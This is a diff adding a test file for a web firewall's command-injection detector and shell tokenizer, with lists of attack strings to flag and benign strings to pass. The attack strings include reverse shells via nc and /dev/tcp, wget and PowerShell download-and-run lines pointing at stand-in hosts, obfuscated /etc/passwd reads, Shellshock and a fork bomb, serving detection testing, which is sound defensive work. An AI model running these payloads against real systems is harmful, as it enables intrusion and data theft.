@@ -1,0 +1,117 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { DetectContext, Point, Sensitivity } from '../src/core/model.js';
+import { rceDetector } from '../src/detect/detect-rce.js';
+import { tokenizeShell } from '../src/detect/shell-tokenizer.js';
+
+function inspect(value: string, sensitivity: Sensitivity = 'default', location = 'query.q') {
+  const ctx: DetectContext = {
+    sensitivity,
+    deadline: Number.POSITIVE_INFINITY,
+    request: { method: 'GET', host: 'h', path: '/', normalizedPath: '/', headers: [], points: [], anomalies: [] },
+  };
+  const point: Point = { location, value, chain: [], kind: 'value' };
+  return rceDetector.inspectPoint!(point, ctx);
+}
+
+const ATTACKS: Array<[string, string]> = [
+  [';id', 'ST-RCE-001'],
+  ['www.google.com;cat /etc/passwd', 'ST-RCE-001'],
+  ['127.0.0.1 && ping -c 3 evil.example', 'ST-RCE-001'],
+  ['| nc -e /bin/sh 10.0.0.1 4444', 'ST-RCE-005'],
+  ['$(whoami)', 'ST-RCE-002'],
+  ['`id`', 'ST-RCE-002'],
+  ['c\\at /etc/pa\\ss\\wd', 'ST-RCE-003'],
+  ['w^h^o^a^m^i', 'ST-RCE-003'],
+  [';/bin/ca? /et*/passwd', 'ST-RCE-003'],
+  ['{cat,/etc/passwd}', 'ST-RCE-003'],
+  ["c''at /etc/passwd", 'ST-RCE-003'],
+  ['cat${IFS}/etc/passwd', ''],
+  ['() { :; }; /bin/bash -c "id"', 'ST-RCE-004'],
+  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'ST-RCE-005'],
+  ['for /f "delims=" %i in (\'whoami\') do echo %i', 'ST-RCE-006'],
+  ['IF EXIST C:\\boot.ini (ECHO found)', 'ST-RCE-006'],
+  ['& cmd /c dir C:\\', 'ST-RCE-006'],
+  ['powershell -enc SQBFAFgA', 'ST-RCE-007'],
+  ["IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", 'ST-RCE-007'],
+  ['x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>', 'ST-RCE-009'],
+  [':(){ :|:& };:', 'ST-RCE-010'],
+  ["x'; wget http://evil.example/x.sh -O- | sh; '", 'ST-RCE-005'],
+];
+
+const BENIGN = [
+  'cat and dog',
+  "I'll ping you | ok",
+  'more info; find the best',
+  'Tom & Jerry',
+  'Home | About | Contact',
+  'a=1&b=2&id=5',
+  'Time: 5pm; sleep well',
+  'curl/7.81.0',
+  'python is great',
+  'Q&A: who is this?',
+  'ls',
+  'id',
+  'echo hello',
+  'Meet at 5pm; at home',
+  'sort by date | newest first',
+  'I need more time; kill the lights',
+  'Top 10 | Best of 2024 & more',
+  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
+  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+  'If you exist, please reply',
+  'for all in (our team) do your best',
+];
+
+describe('rce detector', () => {
+  for (const [payload, rule] of ATTACKS) {
+    it(`flags ${JSON.stringify(payload)}`, () => {
+      const hits = inspect(payload);
+      assert.ok(hits.length > 0, 'no hit');
+      if (rule)
+        assert.ok(
+          hits.some((h) => h.ruleId === rule),
+          `rules: ${hits.map((h) => h.ruleId).join(',')}`,
+        );
+      for (const h of hits) assert.equal(h.attackType, 'rce');
+    });
+  }
+  for (const text of BENIGN) {
+    it(`does not flag ${JSON.stringify(text)}`, () => {
+      assert.deepEqual(
+        inspect(text).map((h) => `${h.ruleId} ${h.fragment}`),
+        [],
+      );
+    });
+  }
+  it('survives adversarial input', () => {
+    assert.ok(Array.isArray(inspect(';'.repeat(1 << 20))));
+    assert.ok(Array.isArray(inspect('$('.repeat(100_000))));
+    assert.ok(Array.isArray(inspect('('.repeat(100_000) + 'id' + ')'.repeat(100_000))));
+    assert.ok(Array.isArray(inspect("'".repeat(1 << 20))));
+    assert.ok(inspect('cat /etc/passwd; ' + 'a '.repeat(100_000)).length > 0);
+  });
+});
+
+describe('shell tokenizer', () => {
+  it('splits commands and undoes evasions', () => {
+    const p = tokenizeShell('a=1 c"a"t /etc/passwd | w\\c -l; $(who$@ami)');
+    assert.deepEqual(
+      p.commands.map((c) => [c.lead, c.words.map((w) => w.text)]),
+      [
+        ['start', ['a=1', 'cat', '/etc/passwd']],
+        ['|', ['wc', '-l']],
+        ['$(', ['whoami']],
+      ],
+    );
+    assert.equal(p.commands[0]!.words[1]!.evasion, true);
+  });
+  it('treats ${IFS} as a space', () => {
+    const p = tokenizeShell('cat${IFS}/etc/passwd');
+    assert.deepEqual(
+      p.commands[0]!.words.map((w) => w.text),
+      ['cat', '/etc/passwd'],
+    );
+    assert.equal(p.ifs, true);
+  });
+});
